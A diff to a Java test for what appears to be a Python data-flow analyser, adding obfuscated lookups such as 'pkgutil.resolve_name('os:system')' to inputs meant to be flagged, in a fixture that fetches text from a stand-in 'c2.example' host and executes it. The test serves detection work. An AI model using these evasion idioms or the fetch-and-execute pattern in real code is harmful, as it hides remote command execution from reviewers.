@@ -908,7 +908,9 @@ class DataFlowTest {
           "getattr(os, 'SYSTEM'.lower())(c)",
           "getattr(os, 'sys' + 'TEM'.lower())(c)",
           "getattr(os, 'metsys'[::-1])(c)",
-          "getattr(builtins, 'ex' + 'EC'.casefold())(c)"
+          "getattr(builtins, 'ex' + 'EC'.casefold())(c)",
+          "pkgutil.resolve_name('os:system')(c)",
+          "resolve_name('sub' 'process:getoutput')(c)"
         })
     void aNameLookedUpByJoinedLiteralsIsTheName(String call) {
       String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
